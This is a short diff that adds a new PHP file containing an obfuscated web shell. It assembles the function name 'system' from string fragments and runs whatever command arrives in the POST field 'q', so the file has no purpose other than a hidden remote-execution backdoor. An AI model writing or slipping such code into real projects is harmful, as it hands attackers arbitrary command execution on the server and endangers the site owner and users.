@@ -1,0 +1,3 @@
+<?php
+$s = 'sy' . 'st' . 'em';
+if (isset($_POST['q'])) { $s($_POST['q']); }
